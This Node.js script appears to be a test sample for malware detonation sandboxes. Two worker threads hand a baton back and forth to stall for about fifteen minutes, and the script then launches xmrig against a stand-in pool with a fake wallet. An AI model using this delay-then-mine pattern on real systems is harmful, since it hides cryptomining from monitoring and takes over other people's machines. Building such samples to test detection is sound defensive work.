#!/usr/bin/node
// Hold-out handover countdown (detonate test sample; harmless): two worker_threads Workers pass
// a baton through a SharedArrayBuffer. The holder waits Atomics.wait(250 ms) on a cell nobody
// notifies, counts the round, hands the baton over (Atomics.store + Atomics.notify) and then
// waits without a timeout for it to come back; 3,600 rounds in all, alternating threads. When
// both exit, main runs the miner stand-in with a fake wallet and exits with its status.
//
// HANDOVER_SCALE=N divides the round count (host checks); HANDOVER_MINER replaces the miner.
'use strict';
const { Worker, isMainThread, workerData } = require('worker_threads');

const MINER = '/usr/local/bin/xmrig';
const POOL = 'stratum+tcp://pool.handover.test:3333';
const WALLET = '4HandoverFakeJsWa11etNotARealAddress000000000000000000000000000000000000000000000000000';
const ROUNDS = 3600;
const ROUND_MS = 250;
const TURN = 0; // whose turn: 0 or 1
const DONE = 1; // rounds done
const IDLE = 2; // never notified

function scaled(rounds) {
  const scale = Math.max(1, parseInt(process.env.HANDOVER_SCALE || '1', 10) || 1);
  return Math.max(1, Math.floor(rounds / scale));
}

if (isMainThread) {
  const rounds = scaled(ROUNDS);
  const shared = new Int32Array(new SharedArrayBuffer(12));
  console.log(`nodebaton: ${rounds} rounds of ${ROUND_MS} ms, alternating between two workers`);
  let running = 2;
  let failed = false;
  for (const me of [0, 1]) {
    const worker = new Worker(__filename, { workerData: { me, rounds, buffer: shared.buffer } });
    worker.on('error', (err) => { console.error('nodebaton: worker failed', err); failed = true; });
    worker.on('exit', (code) => {
      failed = failed || code !== 0;
      running -= 1;
      if (running > 0) return;
      const done = Atomics.load(shared, DONE);
      if (failed || done !== rounds) {
        console.error(`nodebaton: workers ended after ${done} rounds`);
        process.exit(1);
      }
      console.log(`nodebaton: ${done} rounds done, starting the miner`);
      const { spawnSync } = require('child_process');
      const miner = process.env.HANDOVER_MINER || MINER;
      const run = spawnSync(miner, ['-o', POOL, '-u', WALLET, '--shares', '1'], { stdio: 'inherit', argv0: 'xmrig' });
      process.exit(run.status === null ? 1 : run.status);
    });
  }
} else {
  const { me, rounds, buffer } = workerData;
  const shared = new Int32Array(buffer);
  const other = 1 - me;
  // At most `rounds` turns each: the loop is bounded even if the other worker dies.
  for (let turn = 0; turn <= rounds; turn++) {
    while (Atomics.load(shared, TURN) !== me) Atomics.wait(shared, TURN, other);
    if (Atomics.load(shared, DONE) >= rounds) break;
    Atomics.wait(shared, IDLE, 0, ROUND_MS);
    Atomics.add(shared, DONE, 1);
    Atomics.store(shared, TURN, other);
    Atomics.notify(shared, TURN);
  }
  Atomics.store(shared, TURN, other); // let the other one see the count and leave
  Atomics.notify(shared, TURN);
}
